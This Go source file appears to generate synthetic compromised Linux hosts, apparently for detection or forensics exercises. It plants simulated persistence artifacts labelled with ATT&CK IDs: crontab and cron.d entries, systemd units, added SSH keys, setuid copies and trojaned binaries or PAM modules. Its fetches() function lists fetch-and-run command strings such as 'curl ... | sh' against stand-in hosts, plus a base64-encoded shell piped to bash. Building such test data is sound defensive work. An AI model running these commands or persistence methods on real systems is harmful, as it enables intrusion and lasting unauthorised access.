package synth

import "fmt"

// fetches are the command lines that an entry runs.
func (s *strike) fetches() string {
	host := pick(s.shared, []string{publicAddress(s.shared), "cdn-" + letters(s.shared, "abcdefghij", 6) + ".example.net", "pastebin.example.org"})
	return pick(s.shared, []string{
		"curl -fsSL http://" + host + "/i.sh | sh", "wget -qO- http://" + host + "/x|bash", "/usr/local/bin/cache-sync -q >/dev/null 2>&1",
		"/usr/bin/logrotate-helper --quiet", "(echo c2ggLWkK|base64 -d)|bash", "/usr/lib/update-check", "python3 /var/lib/misc/upd.py",
	})
}

var persistenceAttacks = []*attack{
	{
		name: "root-crontab", what: "T1053.003: an entry in root's crontab", main: []string{"crontab", "persistence_files"}, plain: true,
		run: func(s *strike) {
			path := "/var/spool/cron/crontabs/root"
			if !s.m.plan.system.debian() {
				path = "/var/spool/cron/root"
			}
			command := s.fetches()
			s.m.crons = append(s.m.crons, cronEntry{path: path, minute: "*/" + itoa(between(s.shared, 3, 30)), hour: "*", day: "*", month: "*", weekday: "*", command: command})
			s.drop(path, "0600", command)
			s.mark(command)
		},
	},
	{
		name: "cron-file", what: "T1053.003: a new file in /etc/cron.d", main: []string{"crontab", "persistence_files"}, plain: true,
		run: func(s *strike) {
			path := "/etc/cron.d/" + pick(s.shared, []string{"0hourly2", "apt-check", "sysstat2", ".placeholder2", "certbot-renew", "popularity", "raid-check", s.m.variant.role.app + "-sync", "update-db"})
			command := "root " + s.fetches()
			s.m.crons = append(s.m.crons, cronEntry{path: path, minute: itoa(s.shared.IntN(60)), hour: pick(s.shared, []string{"*", "*/2", "3"}), day: "*", month: "*", weekday: "*", command: command})
			s.drop(path, "0644", command)
			s.mark(command)
		},
	},
	{
		name: "user-crontab", what: "T1053.003: an entry in a service account's crontab", main: []string{"crontab"}, plain: true,
		run: func(s *strike) {
			user := pick(s.shared, []string{s.m.plan.system.www, "nobody", "daemon"})
			path := "/var/spool/cron/crontabs/" + user
			if !s.m.plan.system.debian() {
				path = "/var/spool/cron/" + user
			}
			command := s.fetches()
			event := pick(s.shared, []string{"", "", "@reboot"})
			e := cronEntry{path: path, command: command, event: event}
			if event == "" {
				e = cronEntry{path: path, minute: "*", hour: "*", day: "*", month: "*", weekday: "*", command: command}
			}
			s.m.crons = append(s.m.crons, e)
			s.drop(path, "0600", command)
			s.mark(command)
		},
	},
	{
		name: "systemd-service", what: "T1543.002: a new service with a program of its own", main: []string{"systemd_units", "processes"}, plain: true,
		run: func(s *strike) {
			path, id := pick(s.shared, imitations), s.unitName("service")
			s.drop(path, "0755", "program")
			s.addUnit(id, path, "running", "enabled")
			p := s.start(nil, "root", path, "/", path)
			s.m.serve(p, id)
			s.calls(p, pick(s.shared, callPorts))
		},
	},
	{
		name: "systemd-timer", what: "T1053.006: a timer that starts a script", main: []string{"systemd_units"}, plain: true,
		run: func(s *strike) {
			id := s.unitName("timer")
			service := id[:len(id)-len("timer")] + "service"
			script := pick(s.shared, []string{"/usr/local/sbin/", "/usr/lib/", "/opt/", "/var/lib/"}) + pick(s.shared, []string{"netcheck.sh", "upd", "sync-meta", "rotate.sh"})
			s.drop(script, "0755", "script")
			s.addUnit(id, script, "waiting", "enabled")
			s.addUnit(service, script, "dead", "static")
		},
	},
	{
		name: "authorized-key", what: "T1098.004: one more key that may log in", main: []string{"authorized_keys"}, plain: true,
		run: func(s *strike) {
			user, home := "root", "/root"
			if s.shared.IntN(2) == 0 {
				user, home = s.m.plan.admins[0].name, s.m.plan.admins[0].home
			}
			k := sshKey{user: user, algorithm: pick(s.shared, []string{"ssh-ed25519", "ssh-rsa"}), key: hexes(s.shared, 64), comment: pick(s.shared, []string{"", "root@kali", "deploy@ci", s.m.plan.keys[0].comment, "mdrfckr"}), file: home + "/.ssh/authorized_keys"}
			s.m.keys = append(s.m.keys, k)
			s.mark(k.key)
		},
	},
	{
		name: "private-key", what: "T1552.004: a private key left behind", main: []string{"private_ssh_keys"}, plain: true,
		run: func(s *strike) {
			path := pick(s.shared, []string{"/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", s.m.plan.admins[0].home + "/.ssh/id_rsa", s.m.plan.admins[0].home + "/.ssh/backup"})
			user := "root"
			if path[:6] == "/home/" {
				user = s.m.plan.admins[0].name
			}
			s.m.privateKeys = append(s.m.privateKeys, privateKey{user, path, "rsa", false, 3072})
			s.mark(path)
		},
	},
	{
		name: "setuid-copy", what: "T1548.001: a new setuid program", main: []string{"suid_bin", "recent_system_changes"}, plain: true,
		run: func(s *strike) {
			path := pick(s.shared, []string{"/usr/local/bin/backup-helper", "/usr/bin/fusermount4", "/usr/sbin/pam-helper", "/usr/local/sbin/.su", "/usr/bin/newgrp2", "/tmp/rootbash"})
			s.drop(path, "4755", "shell")
			s.when = max(s.when, s.m.now-13*86400)
			s.m.file(path).ctime = s.when
		},
	},
	{
		name: "replaced-program", what: "T1554: a program replaced, its package the same", main: []string{"key_binaries"}, plain: true,
		run: func(s *strike) {
			path := pick(s.shared, []string{"/usr/sbin/sshd", "/usr/bin/ps", "/usr/bin/ls", "/usr/bin/sudo", "/usr/bin/passwd", "/usr/bin/curl", "/usr/bin/ssh", "/usr/bin/systemctl"})
			f := s.m.file(path)
			f.content, f.ctime, f.inode = fmt.Sprint("trojan ", path, s.shared.Uint64()), s.when, f.inode+7919
			f.size += int64(between(s.shared, 100, 40_000))
			s.mark(s.m.sha(f))
		},
	},
	{
		name: "pam-module", what: "T1556.003: an authentication module replaced", main: []string{"auth_modules"},
		fits: func(m *machine) bool { return m.plan.ext },
		run: func(s *strike) {
			f := s.m.file(s.m.plan.system.modules + "/pam_" + pick(s.shared, []string{"unix", "env", "permit", "deny"}) + ".so")
			f.content, f.ctime = fmt.Sprint("pam ", s.shared.Uint64()), s.when
			s.mark(s.m.sha(f))
		},
	},
	{
		name: "pam-rule", what: "T1556.003: an authentication rule changed", main: []string{"persistence_files"},
		run: func(s *strike) {
			f := s.m.file(pick(s.shared, []string{"/etc/pam.d/sshd", "/etc/pam.d/su", "/etc/pam.d/sudo"}))
			f.content, f.ctime, f.mtime = fmt.Sprint("rule ", s.shared.Uint64()), s.when, s.when
			f.size += 43
			s.mark(s.m.sha(f))
		},
	},
}

func (s *strike) unitName(suffix string) string {
	return pick(s.shared, []string{
		"systemd-timedatad", "dbus-org.freedesktop.nm1", "cloud-metrics", "apt-cache-helper", "network-check", "irqbalanced", "ntpsync", "snapd-refresh",
		"rsyslog-forward", s.m.variant.role.app + "-health", "kernel-tuning", "instance-meta",
	}) + "." + suffix
}

// addUnit installs a unit whose file lies where an administrator's would, or
// among the packaged ones.
func (s *strike) addUnit(id, runs, sub, state string) {
	folder := pick(s.shared, []string{"/etc/systemd/system/", s.m.plan.system.units + "/"})
	active := "active"
	if sub == "dead" {
		active = "inactive"
	}
	u := unit{id: id, description: pick(s.shared, []string{id, "System Health Check", "Time and Date Service", "Network Check"}), load: "loaded", active: active, sub: sub, fileState: state, fragment: folder + id}
	s.m.units = append(s.m.units, u)
	s.drop(u.fragment, "0644", "unit of "+runs)
	if state == "enabled" {
		s.m.enable(u, s.m.file(u.fragment).content, s.when)
	}
	s.mark(id)
}
